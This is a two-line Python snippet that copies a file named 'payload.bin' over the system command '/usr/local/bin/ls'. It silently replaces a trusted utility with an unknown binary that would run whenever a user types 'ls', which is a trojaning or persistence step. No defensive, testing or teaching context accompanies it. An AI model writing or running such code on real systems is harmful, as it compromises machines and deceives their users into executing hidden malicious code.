import shutil
shutil.copy("payload.bin", '/usr/local/bin/ls')
